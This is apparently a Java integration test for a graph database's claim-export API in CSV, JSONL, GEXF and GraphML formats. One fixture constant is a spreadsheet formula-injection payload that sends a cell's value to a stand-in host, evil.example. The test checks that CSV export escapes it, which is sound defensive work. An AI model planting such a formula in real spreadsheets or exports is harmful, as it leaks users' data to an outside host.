package org.custodes.web;

import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Objects;
import java.util.Set;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

import javax.xml.parsers.DocumentBuilderFactory;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.custodes.graph.GraphStore;
import org.custodes.graph.Story;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.http.HttpHeaders;
import org.springframework.test.web.servlet.client.EntityExchangeResult;
import org.w3c.dom.Document;
import org.w3c.dom.Element;
import org.w3c.dom.NodeList;
import org.xml.sax.InputSource;
import tools.jackson.databind.JsonNode;

import static org.assertj.core.api.Assertions.assertThat;

class ExportIT extends LoadedApi {

	/** More than an export reads at once. */
	private static final int TOWNS = 620;

	private static final String FORMULA = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")";

	private static final String MARKUP = "<b>&\u0001\"'Mark]]>";

	@BeforeAll
	static void loadMore(@Autowired GraphStore store) {
		List<String> towns = IntStream.rangeClosed(1, TOWNS).mapToObj((i) -> "Town " + (1000 + i)).toList();
		Story many = new Story("many.txt",
				towns.stream().map((town) -> town + " tested Lumos.").collect(Collectors.joining(" ")))
			.entity("Company", "Lumos");
		towns.forEach((town) -> many.entity("Agency", town).claim(town, "TESTED", "Lumos", town + " tested Lumos"));
		Story hostile = new Story("=evil,\"name\".txt", FORMULA + " uses\n" + MARKUP + ".").entity("Agency", FORMULA)
			.entity("Company", MARKUP)
			.claim(FORMULA, "USES", MARKUP, FORMULA + " uses\n" + MARKUP);
		store.stage(List.of(many.extraction(), hostile.extraction()), "1");
		store.load(Story.byName(store.stagedEntities()));
	}

	@Test
	void writesEveryClaimAsALineOfTheFormatOfExtraction() {
		List<JsonNode> lines = lines("");
		Set<String> ids = new HashSet<>();
		lines.forEach((line) -> ids.add(line.get("id").asString()));
		assertThat(lines).hasSize(ids.size()).hasSize(3 + 7 + Newsroom.FORCES + TOWNS + 1);
		JsonNode referral = lines("?predicate=REFERRED").get(0);
		assertThat(referral.get("document").asString()).isEqualTo("referral.txt");
		assertThat(referral.at("/subject/type").asString()).isEqualTo("Agency");
		assertThat(referral.at("/recipient/name").asString()).isEqualTo("Border Agency");
		assertThat(referral.get("source").isNull()).isTrue();
		assertThat(referral.propertyNames()).contains("polarity", "modality", "from", "until", "amount", "count",
				"title", "product", "kind", "confidence", "rule");
	}

	@Test
	void countsTheCharactersOfTheFileAndNotTheUnitsOfTheText() {
		JsonNode evidence = lines("?predicate=REFERRED").get(0).get("evidence");
		String text = Newsroom.REFERRAL.extraction().document().text();
		int[] characters = text.codePoints().toArray();
		int start = evidence.get("start").asInt();
		assertThat(new String(characters, start, evidence.get("end").asInt() - start))
			.isEqualTo(evidence.get("text").asString());
		assertThat(start).isNotEqualTo(text.indexOf(evidence.get("text").asString()));
	}

	@Test
	void writesARowForEachPlaceWithItsDocumentAndDates() throws IOException {
		List<CSVRecord> rows = rows("?predicate=FINED");
		assertThat(rows).singleElement().satisfies((row) -> {
			assertThat(row.get("subject")).isEqualTo("Data Watchdog");
			assertThat(row.get("object_id")).isEqualTo(ARGUS);
			assertThat(row.get("amount")).isEqualTo("17000000");
			assertThat(row.get("currency")).isEqualTo("GBP");
			assertThat(row.get("from")).isEqualTo("2022-05");
			assertThat(row.get("quote")).isEqualTo("Data Watchdog fined Argus 17 million pounds");
			assertThat(row.get("document_title")).isEqualTo("About denial.txt");
			assertThat(row.get("published")).isEqualTo("2021-05");
			assertThat(row.get("address")).isEqualTo("https://paper.example/denial.txt");
			assertThat(row.get("recipient")).isEmpty();
		});
		assertThat(rows("")).hasSize(3 + 7 + Newsroom.FORCES + TOWNS + 1);
	}

	@Test
	void letsNoSpreadsheetRunWhatATextSays() throws IOException {
		CSVRecord row = rows("?object=" + hostileCompany()).get(0);
		assertThat(row.get("subject")).isEqualTo("'" + FORMULA);
		assertThat(row.get("quote")).isEqualTo("'" + FORMULA + " uses\n" + MARKUP);
		assertThat(row.get("file")).isEqualTo("'=evil,\"name\".txt");
		assertThat(row.get("confidence")).isEqualTo("0.8");
	}

	@Test
	void writesTheDirectEdgesForGephi() throws Exception {
		Document gexf = xml("gexf", "");
		assertThat(gexf.getDocumentElement().getAttribute("xmlns")).isEqualTo("http://gexf.net/1.3");
		Set<String> nodes = ids(gexf, "node", "id");
		List<Element> edges = elements(gexf, "edge");
		assertThat(edges).hasSize(facts());
		edges.forEach((edge) -> assertThat(nodes).contains(edge.getAttribute("source"), edge.getAttribute("target")));
		assertThat(ids(gexf, "edge", "id")).hasSize(edges.size())
			.contains(GOTHAM + " REFERRED " + ARGUS + " " + BORDER)
			.doesNotContain("agency-metro-police TESTED company-argus");
		assertThat(labels(gexf)).contains(FORMULA, MARKUP.replace('\u0001', '\uFFFD'));
	}

	@Test
	void writesTheDirectEdgesAsGraphMl() throws Exception {
		Document graph = xml("graphml", "");
		Set<String> nodes = ids(graph, "node", "id");
		List<Element> edges = elements(graph, "edge");
		assertThat(edges).hasSize(facts());
		edges.forEach((edge) -> assertThat(nodes).contains(edge.getAttribute("source"), edge.getAttribute("target")));
		Set<String> keys = ids(graph, "key", "id");
		elements(graph, "data").forEach((data) -> assertThat(keys).contains(data.getAttribute("key")));
		assertThat(elements(graph, "data")).extracting(Element::getTextContent)
			.contains(MARKUP.replace('\u0001', '\uFFFD'), "USES", "true");
	}

	@ParameterizedTest
	@CsvSource(delimiter = '|', textBlock = """
			predicate=USES&object=company-argus      | 121 | 122
			predicate=REFERRED                       | 1   | 2
			recipient=agency-border-agency           | 1   | 2
			subject=company-argus                    | 1   | 2
			minConfidence=0.99                       | 0   | 0
			from=2022                                | 1   | 2
			until=2021-01                            | 1   | 2
			""")
	void keepsToTheEdgesThatAFilterLeaves(String filter, int edges, int nodes) throws Exception {
		Document gexf = xml("gexf", "?" + filter);
		assertThat(elements(gexf, "edge")).hasSize(edges);
		assertThat(elements(gexf, "node")).hasSize(nodes);
	}

	@Test
	void offersTheFileUnderANameAndWithoutBeingRead() {
		EntityExchangeResult<String> result = exchange("/api/v1/export/csv?predicate=FINED");
		assertThat(result.getResponseHeaders().getFirst(HttpHeaders.CONTENT_DISPOSITION))
			.isEqualTo("attachment; filename=\"claims.csv\"");
		assertThat(String.valueOf(result.getResponseHeaders().getContentType())).isEqualTo("text/csv;charset=UTF-8");
		assertThat(get("/api/v1/export").get("items")).hasSize(4);
	}

	@ParameterizedTest
	@CsvSource(delimiter = '|', textBlock = """
			/api/v1/export/xlsx                    | 404
			/api/v1/export/csv?polarity=maybe      | 400
			/api/v1/export/csv?limit=1             | 400
			/api/v1/export/gexf?polarity=asserted  | 400
			/api/v1/export/graphml?document=x      | 400
			""")
	void tellsWhatIsWrong(String path, int status) {
		EntityExchangeResult<String> result = exchange(path);
		assertThat(result.getStatus().value()).as(result.getResponseBody()).isEqualTo(status);
		assertThat(json(result).get("detail").asString()).isNotBlank();
	}

	private int facts() {
		return post("{\"cypher\": \"MATCH (:Entity)-[fact]->(:Entity) RETURN count(fact)\"}").at("/rows/0/0").asInt();
	}

	private String hostileCompany() {
		return post("{\"cypher\": \"MATCH (e:Company) WHERE e.name STARTS WITH '<b>' "
				+ "RETURN replace(replace(e.id, '&', '%26'), '<', '%3C')\"}")
			.at("/rows/0/0")
			.asString()
			.replace("\u0001", "%01")
			.replace("\"", "%22")
			.replace(">", "%3E")
			.replace("]", "%5D");
	}

	private JsonNode post(String body) {
		return json(post("/api/v1/cypher", body));
	}

	private List<JsonNode> lines(String query) {
		return body("jsonl", query).lines().map(MAPPER::readTree).toList();
	}

	private List<CSVRecord> rows(String query) throws IOException {
		return CSVFormat.RFC4180.builder()
			.setHeader()
			.setSkipHeaderRecord(true)
			.get()
			.parse(new StringReader(body("csv", query)))
			.getRecords();
	}

	private Document xml(String format, String query) throws Exception {
		return DocumentBuilderFactory.newInstance()
			.newDocumentBuilder()
			.parse(new InputSource(new StringReader(body(format, query))));
	}

	private String body(String format, String query) {
		EntityExchangeResult<byte[]> result = client().get()
			.uri(java.net.URI.create(base() + "/api/v1/export/" + format + query))
			.exchange()
			.returnResult(byte[].class);
		assertThat(result.getStatus().value()).isEqualTo(200);
		return new String(Objects.requireNonNullElse(result.getResponseBody(), new byte[0]), StandardCharsets.UTF_8);
	}

	private static Set<String> ids(Document document, String element, String attribute) {
		return elements(document, element).stream().map((it) -> it.getAttribute(attribute)).collect(Collectors.toSet());
	}

	private static List<String> labels(Document gexf) {
		return elements(gexf, "node").stream().map((node) -> node.getAttribute("label")).toList();
	}

	private static List<Element> elements(Document document, String name) {
		NodeList nodes = document.getElementsByTagName(name);
		List<Element> elements = new ArrayList<>();
		for (int i = 0; i < nodes.getLength(); i++) {
			elements.add((Element) nodes.item(i));
		}
		return elements;
	}

}
